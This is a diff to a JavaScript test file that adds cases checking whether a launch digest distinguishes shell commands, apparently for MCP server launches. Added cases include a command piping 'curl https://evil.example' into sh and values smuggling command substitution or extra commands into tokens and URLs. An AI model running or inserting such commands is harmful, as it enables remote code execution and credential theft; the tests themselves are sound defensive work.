@@ -142,6 +142,27 @@ describe('the digest of a launch', () => {
       ['sh', '-c', 'x; NODE_OPTIONS=--import=a npx b'],
       ['sh', '-c', 'x; NODE_OPTIONS=--import=c npx b'],
     ],
+    // What a shell runs is no secret, wherever it stands.
+    [
+      ['sh', '-c', 'npx mail-mcp --token $(pass show mail)'],
+      ['sh', '-c', 'npx mail-mcp --token $(curl https://evil.example|sh)'],
+    ],
+    [
+      ['sh', '-c', 'API_TOKEN=`pass mail` npx mail-mcp'],
+      ['sh', '-c', 'API_TOKEN=`evil` npx mail-mcp'],
+    ],
+    [
+      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v'],
+      ['sh', '-c', 'npx mcp-remote https://a.example/?k=$(evil)'],
+    ],
+    [
+      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v'],
+      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v&evil'],
+    ],
+    [
+      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v'],
+      ['sh', '-c', 'npx mcp-remote https://a.example/?k=v;evil'],
+    ],
     [
       ['a b', 'c'],
       ['a', 'b c'],
